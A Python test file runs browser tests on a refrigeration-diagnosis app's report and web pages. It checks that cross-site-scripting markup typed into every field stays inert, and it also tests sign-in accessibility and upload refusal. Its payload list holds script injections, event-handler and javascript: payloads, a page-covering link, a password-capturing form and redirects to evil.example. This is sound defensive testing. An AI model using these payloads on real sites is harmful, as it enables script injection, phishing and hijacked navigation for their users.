"""Markup in every field that people fill, in a real browser: nothing runs, nothing is fetched, nothing covers the page.

Looked at in the report, which nothing but our own escaping protects, and in the desks of the running app.
"""

from __future__ import annotations

import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

import pytest

from diagnose.advise import advise
from diagnose.case import Case, Entry
from diagnose.case_check import checked, parse_case
from diagnose.report import html_report
from knowledge.load import load_knowledge

RAN = "window.ran=1"
PAYLOADS = [
    f"<script>{RAN}</script>",
    f"\"'><img src=x onerror={RAN}>",
    f"<svg onload={RAN}><script>{RAN}</script></svg>",
    f"<a href='javascript:{RAN}'>x</a>",
    "<a style='position:fixed;inset:0;z-index:99999' href='http://evil.example'>cover</a>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "![x](http://evil.example/x.png)",
    f"[x](javascript:{RAN})",
    "<img src='http://evil.example/y.png'>",
    "<style>*{display:none}</style>",
    "<!--", "]]>", "</style></script></title></textarea>", "&lt;script&gt;",
    "$$\\href{javascript:x}{y}$$ :red[x] :material/home:",
    "<form action='http://evil.example'><input name=password></form>",
    "<base href='http://evil.example/'><meta http-equiv=refresh content='0;url=http://evil.example'>",
]  # fmt: skip
ALL = " ".join(PAYLOADS)


def case() -> Case:
    """A case with markup in everything that is free text."""
    short = [p[:190] for p in PAYLOADS]
    data: dict[str, Any] = {
        "complaint": "no-flow",
        "words": ALL,
        "machine": {"name": short[0], "serial": short[1], "circuits": 2, "refrigerant": "R-410A"},
        "now": "2026-05-01T10:30",
        "entries": [
            {"note": ALL, "by": short[2], "at": "10:00"},
            *({"note": text, "by": text[:190]} for text in PAYLOADS),
            {
                "quantity": "pump_suction",
                "value": "12 psig",
                "instrument": short[3],
                "condition": short[4],
                "by": short[5],
            },
            {"quantity": "pump_discharge", "value": "31 psig", "instrument": short[6]},
        ],
    }
    return checked(parse_case(data), load_knowledge())


FOREIGN = "script:not([data-ours]), iframe, object, embed, form, base, meta[http-equiv=refresh], [onerror], [onload], a[href^=javascript]"


def harmless(page: Any, outside: list[str]) -> None:
    """What must hold of a page, whatever was typed."""
    assert page.evaluate("window.ran") is None, "a script ran"
    assert outside == [], "something was fetched"
    cover = "e => getComputedStyle(e).position === 'fixed' && (e.getAttribute('href') || '').includes('evil')"
    assert not page.evaluate(f"[...document.querySelectorAll('a')].some({cover})")
    assert not page.evaluate("[...document.images].some(i => i.src.includes('evil'))")


def watched(browser: Any, allowed: str) -> tuple[Any, list[str]]:
    page, outside = browser.new_context().new_page(), []
    page.on("request", lambda r: None if r.url.startswith((allowed, "data:", "blob:")) else outside.append(r.url))
    page.on("dialog", lambda d: (outside.append("dialog"), d.dismiss()))
    return page, outside


def test_a_report_full_of_markup(browser: Any, tmp_path: Path) -> None:
    knowledge, told = load_knowledge(), case()
    undone = ((Entry(note=ALL, by=PAYLOADS[1][:190], at="10:01"), PAYLOADS[2]),)
    text = html_report(told, advise(told, knowledge), knowledge, made_at=PAYLOADS[0], outcome="cured", outcome_note=ALL,
                       undone=undone)  # fmt: skip
    path = tmp_path / "report.html"
    path.write_text(text, encoding="utf-8")
    # once as it is, and once without its own rule against scripts, which would hide a slip of the escaping
    bare = tmp_path / "bare.html"
    policy = text.partition("<meta http-equiv='Content-Security-Policy' ")[2].partition(">")[0]
    assert "default-src 'none'" in policy
    bare.write_text(text.replace(f"<meta http-equiv='Content-Security-Policy' {policy}>", ""), encoding="utf-8")
    for file in (path, bare):
        page, outside = watched(browser, file.as_uri())
        page.goto(file.as_uri())
        page.wait_for_timeout(300)
        harmless(page, outside)
        assert page.locator(FOREIGN).count() == 0
        shown = page.inner_text("body")
        assert f"<script>{RAN}</script>" in shown and "onerror=" in shown, "it is shown as it was typed"
        page.context.close()


def test_the_desks_with_a_call_full_of_markup(browser: Any, home: Any) -> None:
    told = case().model_dump(mode="json", exclude_defaults=True)
    entries = told.pop("entries")
    told.pop("now")
    call = home.store.open_call({**told, "format": 1}, by=PAYLOADS[1], call_id="markup")
    home.store.add_machine({"name": PAYLOADS[0], "serial": PAYLOADS[1]}, by=PAYLOADS[2], machine_id="markup")
    for n, entry in enumerate(entries):
        entry.pop("id", None)
        entry.pop("at", None)
        home.store.append(call, entry, key=f"k{n}", after_revision=n, by=PAYLOADS[n % len(PAYLOADS)][:100])
    page, outside = watched(browser, home.url)
    for query in ("", f"?call={call}", f"?desk=telephone&call={call}", "?new=1", f"?desk=<script>{RAN}</script>",
                  f"?call=<img src=x onerror={RAN}>", f"?new=1&machine=markup&complaint=<script>{RAN}</script>"):  # fmt: skip
        page.goto(f"{home.url}/{query}")
        page.wait_for_selector("[data-screen] h1", timeout=60_000)
        page.wait_for_selector("[data-testid=stApp][data-test-script-state=notRunning]", timeout=60_000)
        for drawer in page.locator("summary").all():
            drawer.click()
        page.wait_for_timeout(400)
        harmless(page, outside)
    page.context.close()


def test_the_sign_in_page_is_for_everybody(browser: Any, served: Any) -> None:
    """No accessibility finding, rows high enough, no overflow at 320 px; works with the keyboard alone; leads on."""
    from axe_playwright_python.sync_playwright import Axe

    for scheme in ("light", "dark"):
        context = browser.new_context(viewport={"width": 320, "height": 700}, color_scheme=scheme)
        page = context.new_page()
        page.goto(served.url + "/?call=" + served.calls["-technician"])
        assert page.evaluate("document.documentElement.scrollWidth") <= 320
        found = [f"{v['id']}: {v['help']}" for v in Axe().run(page).response["violations"]]
        assert found == []
        assert page.locator("button").bounding_box()["height"] >= 64
        assert min(page.locator("input:not([type=hidden])").nth(n).bounding_box()["height"] for n in (0, 1)) >= 44
        page.keyboard.press("Tab")
        page.keyboard.type("ann")
        page.keyboard.press("Tab")
        page.keyboard.type("wrong guess")
        page.keyboard.press("Enter")
        page.wait_for_selector("[role=alert]")
        assert page.input_value("#name") == "ann" and page.input_value("#password") == ""
        page.fill("#password", "four walls and a roof")
        page.keyboard.press("Enter")
        page.wait_for_selector("[data-screen] h1", timeout=60_000)
        assert "call=" in page.url and "password" not in page.url and "ann" not in page.url
        page.get_by_text("Signed in as Ann Example").wait_for()
        page.reload()
        page.get_by_text("Signed in as Ann Example").wait_for(timeout=60_000)
        context.close()


@pytest.mark.parametrize("size", [1, 27_000_000])
def test_an_upload_for_nobody_is_refused(home: Any, size: int) -> None:
    """A file for a page that is not open, small or beyond the limit."""
    request = urllib.request.Request(f"{home.url}/_stcore/upload_file/nobody/{'x' * 8}", data=b"x" * size, method="PUT")
    with pytest.raises(urllib.error.URLError) as caught:  # or the connection is cut before all of it was sent
        urllib.request.urlopen(request, timeout=30)
    if isinstance(caught.value, urllib.error.HTTPError):
        assert caught.value.code in (400, 403, 413)
